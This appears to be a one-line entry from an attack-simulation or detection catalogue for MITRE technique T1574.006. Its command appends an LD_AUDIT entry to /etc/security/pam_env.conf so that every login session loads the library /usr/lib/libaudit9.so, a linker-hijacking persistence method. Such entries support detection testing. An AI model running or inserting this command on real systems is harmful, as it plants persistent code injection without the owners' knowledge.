# technique: T1574.006
# location: linux.environment.system
# source: /etc/security/pam_env.conf
echo 'LD_AUDIT DEFAULT=/usr/lib/libaudit9.so' >> /etc/security/pam_env.conf
